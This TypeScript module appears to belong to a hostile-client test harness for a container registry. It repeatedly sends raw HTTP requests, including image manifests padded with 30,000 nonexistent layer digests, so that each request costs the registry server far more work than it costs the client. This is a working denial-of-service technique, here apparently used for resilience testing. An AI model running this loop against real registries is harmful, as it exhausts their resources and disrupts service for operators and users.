import { setTimeout as wait } from 'node:timers/promises';
import { IMAGE_MANIFEST } from '@purser/registry-under-test';
import type { HostileClient } from '../hostile-client.ts';
import { sendOnce } from './every.ts';

const PAUSE_MS = 1000;
const MISSING_LAYERS = 30_000;

/** Sends one request after the other that costs the server more than the client. */
export async function askDearly(client: HostileClient): Promise<void> {
  const questions = client.target.content.dear.map((line) => ({
    text: `${line} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: ${IMAGE_MANIFEST}\r\n`,
    body: line.startsWith('PUT') ? manifestWithoutLayers() : undefined,
  }));
  void (async () => {
    for (;;) {
      for (const { text, body } of questions) {
        const length = body?.length ?? 0;
        const request = { text: `${text}Content-Length: ${length}\r\n\r\n`, body };
        await sendOnce(client, request).catch(() => {});
        await wait(PAUSE_MS);
      }
    }
  })();
}

let payload: Buffer | undefined;

/** A manifest whose layers are all missing: the server looks for each. */
function manifestWithoutLayers(): Buffer {
  if (payload !== undefined) return payload;
  const describe = (number: number) => ({
    mediaType: 'a/b',
    digest: `sha256:${number.toString(16).padStart(64, '0')}`,
    size: 1,
  });
  const layers = Array.from({ length: MISSING_LAYERS }, (_, number) => describe(number));
  const document = { schemaVersion: 2, mediaType: IMAGE_MANIFEST, config: layers[0], layers };
  return (payload = Buffer.from(JSON.stringify(document)));
}
